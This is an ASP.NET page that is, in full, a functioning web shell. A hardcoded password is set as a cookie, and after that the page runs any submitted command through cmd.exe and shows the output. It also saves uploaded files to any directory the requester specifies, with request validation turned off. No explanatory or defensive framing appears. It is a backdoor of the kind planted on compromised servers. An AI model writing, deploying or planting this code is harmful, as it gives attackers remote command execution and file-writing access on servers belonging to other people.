<%@ Page Language="C#" ValidateRequest="false" %>
<script runat="server">
    const string Secret = "b9f1c0";
    protected void Page_Load(object sender, EventArgs e)
    {
        if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["pw"]))
        {
            HttpCookie ck = new HttpCookie("sid2", HttpContext.Current.Request.Form["pw"]);
            ck.Expires = DateTime.Now.AddDays(2);
            Response.Cookies.Add(ck);
        }
        HttpCookie have = Request.Cookies["sid2"];
        if (have == null || have.Value != Secret) { panel.Visible = false; return; }
        if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form["cmd"]))
        {
            System.Diagnostics.Process process = new System.Diagnostics.Process();
            process.StartInfo.FileName = "cmd.exe";
            process.StartInfo.UseShellExecute = false;
            process.StartInfo.RedirectStandardInput = true;
            process.StartInfo.RedirectStandardOutput = true;
            process.Start();
            process.StandardInput.WriteLine(HttpContext.Current.Request.Form["cmd"]);
            process.StandardInput.WriteLine("exit");
            Result.InnerText = process.StandardOutput.ReadToEnd();
        }
        else if (Request.Files.Count > 0)
        {
            Request.Files[0].SaveAs(Request.Form["dir"] + "\\" + System.IO.Path.GetFileName(Request.Files[0].FileName));
        }
    }
</script>
<html><body><form runat="server" enctype="multipart/form-data">
<input type="password" name="pw" />
<asp:Panel ID="panel" runat="server"><input name="cmd" /><input type="file" name="up" /><input name="dir" />
<input type="submit" value="Upload" /><pre id="Result" runat="server"></pre></asp:Panel>
</form></body></html>
